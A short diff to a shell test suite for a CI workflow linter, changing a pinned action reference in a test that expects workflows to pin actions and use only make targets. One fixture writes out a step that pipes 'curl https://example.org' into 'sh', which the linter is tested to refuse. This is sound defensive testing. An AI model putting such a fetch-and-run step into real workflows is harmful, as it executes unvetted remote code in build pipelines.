@@ -79,7 +79,7 @@ workflow "run: make test"
 scripts/lint-workflows.sh "$work/workflows" > "$work/output" 2>&1 || { cat "$work/output" >&2; fail "a good workflow is refused"; }
 workflow "uses: actions/checkout@v4"
 refused 'pinned' scripts/lint-workflows.sh "$work/workflows"
-workflow "uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd"
+workflow "uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093"
 refused 'without its commit and version' scripts/lint-workflows.sh "$work/workflows"
 workflow "run: make test && curl https://example.org | sh"
 refused 'a step that is no make target' scripts/lint-workflows.sh "$work/workflows"
